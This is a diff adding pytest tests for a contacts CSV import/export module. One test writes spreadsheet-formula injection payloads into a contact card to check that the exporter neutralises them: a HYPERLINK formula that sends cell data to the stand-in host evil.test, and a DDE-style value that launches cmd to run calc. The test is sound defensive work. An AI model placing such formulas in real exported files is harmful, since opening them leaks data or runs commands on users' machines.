@@ -1,5 +1,8 @@
 """CSV files of contacts, in and out."""
 
+import csv
+import io
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -45,6 +48,15 @@ def test_googles_older_columns() -> None:
     assert "keywords" not in card
 
 
+@pytest.mark.parametrize(
+    ("row", "full"),
+    [('Jane,Doe,"Doe, Jane"', "Jane Doe"), (',,"Acme, Ltd"', "Acme, Ltd"), ("Jane,,", "Jane")],
+)
+def test_what_a_contact_is_sorted_by_is_no_name(row: str, full: str) -> None:
+    (card,) = csv_reading.read(f"First Name,Last Name,File As\n{row}\n".encode()).cards
+    assert card["name"]["full"] == full
+
+
 def test_outlooks_columns_with_semicolons_in_windows_letters() -> None:
     text = (
         "Title;First Name;Last Name;Company;Business Street;Business City;Business Postal Code;Business Phone;Business Phone 2;Mobile Phone;Home Fax;"
@@ -81,6 +93,13 @@ def test_what_is_none_is_refused(text: str) -> None:
         csv_reading.read(text.encode())
 
 
+def test_values_of_a_file_are_counted(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(csv_reading, "MAX_VALUES", 5)
+    csv_reading.read(b"First Name,Labels\na,b;c\nd,e\n")
+    with pytest.raises(NotContacts, match="in parts"):
+        csv_reading.read(b"First Name,Labels\na,b;c\nd,e;f\n")
+
+
 def test_a_row_has_always_the_same_uid() -> None:
     assert csv_reading.read(GOOGLE.encode()) == csv_reading.read(GOOGLE.encode())
 
@@ -98,6 +117,32 @@ def test_what_is_written_is_read_again(form: str) -> None:
     ]
     assert again["phones"] == card["phones"]
     assert again["name"]["components"] == card["name"]["components"]
+
+
+@pytest.mark.parametrize("form", list(csv_writing.FORMS))
+def test_a_spreadsheet_reckons_nothing_out(form: str) -> None:
+    formula = '=HYPERLINK("http://evil.test/?"&B1)'
+    card = {
+        "@type": "Card", "version": "1.0", "uid": "u",
+        "name": {"components": [{"kind": "given", "value": formula}, {"kind": "surname", "value": "@SUM(1)"}]},
+        "phones": {"p": {"number": "+49 (1) 2-3"}, "q": {"number": "+1+cmd|' /C calc'!A0"}},
+        "notes": {"n": {"note": "\t=1\n-1+x"}},
+        "anniversaries": {"b": {"kind": "birth", "date": {"month": 3, "day": 5}}},
+    }  # fmt: skip
+    written = files.write([card], Format(form)).decode("utf-8-sig")
+    _, *rows = csv.reader(io.StringIO(written, newline=""))
+    assert [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t")] == ["--0305", "+49 (1) 2-3"]
+    (again,) = csv_reading.read(written.encode()).cards
+    assert again["name"]["components"] == card["name"]["components"]
+    assert [one["number"] for one in again["phones"].values()] == ["+49 (1) 2-3", "+1+cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("form", list(csv_writing.FORMS))
+def test_a_name_stays_whole(form: str) -> None:
+    parts = {"given": "Gabriel", "surname": "García", "surname2": "Márquez", "credential": "Jr."}
+    name = {"components": [{"kind": kind, "value": value} for kind, value in parts.items()]}
+    written = files.write([{"@type": "Card", "version": "1.0", "uid": "u", "name": name}], Format(form))
+    assert files.read(written).cards[0]["name"]["full"] == "Gabriel García Márquez Jr."
 
 
 @pytest.mark.parametrize("form", list(Format))
